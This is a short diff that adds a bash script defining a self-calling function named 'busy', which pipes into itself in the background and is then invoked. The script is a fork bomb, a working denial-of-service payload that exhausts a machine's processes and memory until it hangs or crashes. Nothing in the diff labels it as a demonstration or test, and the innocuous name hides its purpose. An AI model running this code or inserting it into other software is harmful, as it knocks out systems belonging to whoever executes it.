@@ -1,0 +1,5 @@
+#!/bin/bash
+busy() {
+  busy | busy &
+}
+busy
